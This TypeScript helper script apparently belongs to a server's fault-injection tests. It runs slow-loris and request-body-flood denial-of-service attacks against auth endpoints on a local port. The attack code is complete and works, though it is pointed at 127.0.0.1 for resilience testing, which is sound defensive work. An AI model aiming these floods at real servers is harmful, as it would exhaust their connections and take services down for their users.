/**
 * An attacker in its own process (so that its work is not the measuring test's): `slow-loris`
 * opens `count` connections and trickles a header line into each every second, never finishing
 * the head; `body-flood` keeps `count` uploads of `megabytes` each going at once, half declared
 * with Content-Length, half chunked. Prints `{"attacking": true}` once every connection is open.
 *
 *   node --import tsx faults/support/attacker.ts slow-loris <port> <count>
 *   node --import tsx faults/support/attacker.ts body-flood <port> <count> <megabytes>
 */
import { connect, type Socket } from 'node:net';

const [mode, portText, countText, megabytesText] = process.argv.slice(2);
const port = Number(portText);
const count = Number(countText);
const sockets = new Set<Socket>();

function open(): Promise<Socket> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1', () => resolve(socket));
    sockets.add(socket);
    socket.on('error', () => {});
    socket.on('close', () => sockets.delete(socket));
  });
}

async function slowLoris(): Promise<void> {
  const open_ = await Promise.all(Array.from({ length: count }, open));
  for (const socket of open_) socket.write('POST /auth/v1/refresh HTTP/1.1\r\nHost: localhost\r\n');
  process.stdout.write('{"attacking":true}\n');
  let n = 0;
  setInterval(() => {
    n++;
    for (const socket of sockets) socket.write(`x-slow-${n}: ${n}\r\n`);
    // A server that drops one gets it back at once: the attacker keeps `count` going.
    for (let i = sockets.size; i < count; i++)
      void open().then((socket) => socket.write('POST /auth/v1/refresh HTTP/1.1\r\nHost: localhost\r\n'));
  }, 1000);
}

async function bodyFlood(): Promise<void> {
  const size = Number(megabytesText) * 1024 * 1024;
  const chunk = Buffer.alloc(64 * 1024, 'a');
  const upload = async (chunked: boolean): Promise<void> => {
    const socket = await open();
    socket.write(
      `POST /auth/v1/login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n${
        chunked ? 'Transfer-Encoding: chunked' : `Content-Length: ${size}`
      }\r\n\r\n`,
    );
    let sent = 0;
    const writeMore = () => {
      while (sent < size && !socket.destroyed) {
        sent += chunk.length;
        const ok = chunked
          ? socket.write(`${chunk.length.toString(16)}\r\n`) && socket.write(chunk) && socket.write('\r\n')
          : socket.write(chunk);
        if (!ok) return void socket.once('drain', writeMore);
      }
      if (!socket.destroyed) socket.end(chunked ? '0\r\n\r\n' : '');
    };
    writeMore();
    await new Promise((done) => socket.on('close', done));
  };
  let started = 0;
  const worker = async (i: number) => {
    for (;;) {
      started++;
      if (started === count) process.stdout.write('{"attacking":true}\n');
      await upload(i % 2 === 1);
    }
  };
  for (let i = 0; i < count; i++) void worker(i);
}

if (mode === 'slow-loris') await slowLoris();
else if (mode === 'body-flood') await bodyFlood();
else throw new Error(`unknown mode ${mode}`);
